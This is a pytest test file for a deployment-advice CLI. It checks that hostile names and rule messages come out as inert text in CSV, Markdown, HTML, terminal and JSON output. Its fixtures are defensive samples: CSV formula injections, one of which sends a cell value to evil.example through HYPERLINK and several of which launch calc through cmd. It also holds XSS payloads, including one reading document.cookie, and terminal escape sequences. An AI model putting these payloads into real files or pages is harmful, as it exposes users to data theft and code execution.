"""Hostile strings in a user's files (names, rule messages, field names) reach no output as
anything but text: CSV cells no spreadsheet runs, Markdown and HTML that render as the
characters written, a terminal that receives no control sequence, and no NUL byte anywhere."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from runplan.cli import main
from runplan.fmt import csv_cell, md, num, printable

from .conftest import EXAMPLES

BASE: dict[str, Any] = {"kind": "webhook", "traffic": {"pattern": "bursty",
                                                       "requests_per_month": 60000,
                                                       "peak_rps": 20},
                        "execution": {"avg_duration_ms": 200, "memory_mb": 256}}
# name -> what the CSV cell must hold (OWASP: a leading = + - @ TAB CR gets a single quote;
# a plain number is left as it is)
NAMES = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")':
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-5": "-5",
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))": "[click](javascript:alert(1))",
    "![pixel](https://evil.example/p.png)": "![pixel](https://evil.example/p.png)",
    "\x1b]0;pwned\x07\x1b[31mred": "\\x1b]0;pwned\\x07\\x1b[31mred",
    "nul\x00byte": "nul\\x00byte",
}


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "estate.jsonl"
    path.write_text("".join(json.dumps({"name": n, **BASE}) + "\n" for n in NAMES))
    return path


def _score(runner: CliRunner, estate: Path, fmt: str) -> bytes:
    result = runner.invoke(main, ["score", str(estate), "--format", fmt, "-j", "1", "-q"])
    assert result.exit_code == 0, result.output
    assert b"\x00" not in result.stdout_bytes and b"\x1b" not in result.stdout_bytes
    assert b"\x07" not in result.stdout_bytes
    return result.stdout_bytes


def test_csv_cells_never_start_a_formula(runner: CliRunner, estate: Path) -> None:
    out = _score(runner, estate, "csv").decode()
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0][:3] == ["name", "verdict", "confidence"]
    assert [r[0] for r in rows[1:]] == list(NAMES.values())
    # Every text cell is quoted (a `;` inside one cannot start a cell in a spreadsheet that
    # splits on `;`); numbers are not.
    line = next(x for x in out.split("\n") if x.startswith('"-5"'))
    # ECS on Fargate costs 4.98x the functions bill: 3.28 cost points, confidence 0.94 (no
    # cluster to run on ECS on Fargate: the team's risk weighs 0.5, not 2 + 1)
    assert line.startswith('"-5","serverless",0.94,')


def test_markdown_renders_names_as_text(runner: CliRunner, estate: Path) -> None:
    out = _score(runner, estate, "markdown").decode()
    for raw in ("<script", "<img", "javascript:"):
        assert raw not in out
    assert not re.search(r"(?<!\\)[\[\]]", out.split("## Portfolio")[0])  # no link syntax
    assert "| &lt;script&gt;alert(1)&lt;/script&gt; | serverless |" in out
    assert "| &lt;img src=x onerror=alert(1)&gt; |" in out
    assert "| \\[click\\](javascript&#58;alert(1)) |" in out
    assert "| !\\[pixel\\](https://evil.example/p.png) |" in out
    assert "| +cmd\\|' /C calc'!A0 |" in out  # a `|` never ends the table cell
    assert "| \\\\x1b\\]0;pwned\\\\x07\\\\x1b\\[31mred |" in out


def test_markdown_advise_escapes_a_rule_message_and_the_name(runner: CliRunner,
                                                            tmp_path: Path) -> None:
    rules = tmp_path / "org"
    rules.mkdir()
    (rules / "r.yaml").write_text("""theme: acme
rules:
  - id: ACME-LINK-001
    title: A link in a message
    source: ACME policy
    rationale: Messages are text.
    when: {field: kind, op: eq, value: webhook}
    then:
      score: {serverless: 1}
      message: "see [the runbook](javascript:alert(document.cookie)) <b onmouseover=x>"
""")
    profile = tmp_path / "p.json"
    profile.write_text(json.dumps({"name": "<script>x</script>", **BASE}))
    result = runner.invoke(main, ["advise", str(profile), "--format", "markdown", "--rules",
                                  str(rules)])
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert out.startswith("## &lt;script&gt;x&lt;/script&gt;: serverless (confidence ")
    assert ("| ACME-LINK-001 | serverless +1 | see \\[the runbook\\](javascript&#58;alert"
            "(document.cookie)) &lt;b onmouseover=x&gt; | ACME policy |") in out
    assert "<b " not in out and "<script" not in out


def test_markdown_output_renders_without_html_or_links(runner: CliRunner,
                                                       estate: Path) -> None:
    """Rendered by a CommonMark parser: no element but the report's own."""
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(
        _score(runner, estate, "markdown").decode())
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_html_report_escapes_names(runner: CliRunner, estate: Path) -> None:
    out = _score(runner, estate, "html").decode()
    assert "<script>alert(1)" not in out and "<img src=x" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "nul\\x00byte" in out


def test_terminal_views_show_control_characters_escaped(runner: CliRunner, estate: Path,
                                                        tmp_path: Path) -> None:
    out = _score(runner, estate, "text").decode()
    assert "\\x1b]0;pwned\\x07\\x1b[31mred" in out
    profile = tmp_path / "p.json"
    profile.write_text(json.dumps({"name": "\x1b]0;pwned\x07\u202eevil\x00", **BASE}))
    for args in (["advise", str(profile)], ["advise", str(profile), "--explain"],
                 ["cost", str(profile)]):
        result = runner.invoke(main, args)
        assert result.exit_code == 0, result.output
        assert not any(c in result.stdout for c in "\x1b\x07\x00\u202e"), args
    advised = runner.invoke(main, ["advise", str(profile)]).stdout
    assert advised.startswith("\\x1b]0;pwned\\x07\\u202eevil\\x00: SERVERLESS")


def test_json_keeps_the_string_exactly_and_escaped(runner: CliRunner, estate: Path) -> None:
    out = _score(runner, estate, "json")
    names = [c["name"] for c in json.loads(out)["components"]]
    assert names == list(NAMES)  # JSON is data: the encoder escapes, nothing is changed


def test_error_messages_escape_what_the_user_wrote(runner: CliRunner, tmp_path: Path) -> None:
    profile = tmp_path / "p.json"
    profile.write_text(json.dumps({"name": "x", "\x1b[2J\x1b[31mevil\x00": 1}))
    result = runner.invoke(main, ["advise", str(profile)])
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr and "\x00" not in result.stderr
    assert result.stderr.startswith(f"{profile}:1: error: \\x1b[2J\\x1b[31mevil\\x00: ")
    assert len(result.stderr.splitlines()) == 1


def test_the_helpers() -> None:
    assert printable("a\nb\tc\x1bd\x9be\u2066f") == "a\\x0ab\\x09c\\x1bd\\x9be\\u2066f"
    assert printable("a\nb", keep="\n") == "a\nb"
    assert md("a *b* `c` ~d~ _e_ | <f> & javascript:x VBScript:y") == \
        "a \\*b\\* \\`c\\` \\~d\\~ \\_e\\_ \\| &lt;f&gt; &amp; javascript&#58;x VBScript&#58;y"
    assert md("two\nlines") == "two lines"
    assert [csv_cell(x) for x in ("-5", "+1.5e3", "-.5", "-", "-x", "=1", 3.5, None)] == \
        ["-5", "+1.5e3", "-.5", "'-", "'-x", "'=1", 3.5, ""]
    # Leading spaces do not hide a formula (spreadsheets skip them): ` =1+1` was kept as is.
    assert [csv_cell(x) for x in (" =1+1", "   @SUM(A1)", "  +cmd|x", " -5", " plain")] == \
        ["' =1+1", "'   @SUM(A1)", "'  +cmd|x", " -5", " plain"]


@pytest.mark.parametrize(("x", "digits", "text"), [
    (100.0, 2, "100"),  # was `1e+02% of requests`
    (1850.3, 3, "1,850"),  # was `1.85e+03 rps`
    (0.000088, 2, "0.000088"),  # was `8.8e-05%`
    (315_360_000.0, 6, "315,360,000"),  # was `3.1536e+08 requests`
    (10_250.0, 4, "10,250"),  # was `flips at 1.025e+04 for execution.memory_mb`
    (3.805, 4, "3.805"),
    (0.25, 3, "0.25"),
    (-0.5, 3, "-0.5"),
    (999.96, 3, "1,000"),
    (0.0, 3, "0"),
    (5e-324, 3, "~0"),
    (float("inf"), 3, "n/a"),
])
def test_numbers_never_use_exponents(x: float, digits: int, text: str) -> None:
    assert num(x, digits) == text


def test_no_output_of_any_example_uses_an_exponent(runner: CliRunner) -> None:
    exponent = re.compile(r"\d[eE][+-]?\d")
    profiles = [p for p in sorted(EXAMPLES.glob("*.yaml"))
                if not p.name.startswith(("inventory", "catalog-info"))]
    for path in profiles:
        for args in (["advise", str(path), "--explain"], ["advise", str(path), "--format",
                                                          "markdown"], ["cost", str(path)]):
            out = runner.invoke(main, args).stdout
            assert not exponent.search(out), (args, exponent.findall(out))
    for fmt in ("text", "markdown"):
        out = runner.invoke(main, ["score", str(EXAMPLES / "inventory.yaml"), "--format", fmt,
                                   "-j", "1"]).stdout
        assert not exponent.search(out), fmt
    core = runner.invoke(main, ["cost", str(EXAMPLES / "core-api.yaml")]).stdout
    assert "    serverless function requests                            $63.07  315,360,000 " \
        "requests; $0.2 per 1M" in core


def test_messages_give_numbers_without_exponents(runner: CliRunner, tmp_path: Path) -> None:
    profile = tmp_path / "p.yaml"
    profile.write_text("name: x\ntraffic:\n  avg_rps: 2000000\n  peak_rps: 1500000\n")
    result = runner.invoke(main, ["advise", str(profile)])
    assert (result.exit_code, result.stderr) == (
        2, f"{profile}:4: error: traffic.peak_rps: must be at least the average rate (2,000,000 rps), "
        "got 1,500,000\n")  # was `(2e+06 rps), got 1.5e+06`


def test_adr_draft_gives_flips_without_exponents(runner: CliRunner, tmp_path: Path) -> None:
    record = tmp_path / "0001-webhook.md"
    made = runner.invoke(main, ["adr", "new", "--from", str(EXAMPLES / "payments-webhook.yaml"),
                                "--title", "Run the webhook", "-o", str(record)])
    assert made.exit_code == 0, made.output
    text = record.read_text()
    assert re.search(r"The decision flips at \d{2},\d{3} for execution\.memory_mb \(now 256\)",
                     text), text  # was `flips at 1.025e+04 for execution.memory_mb`
    assert not re.search(r"\d[eE][+-]?\d", text)
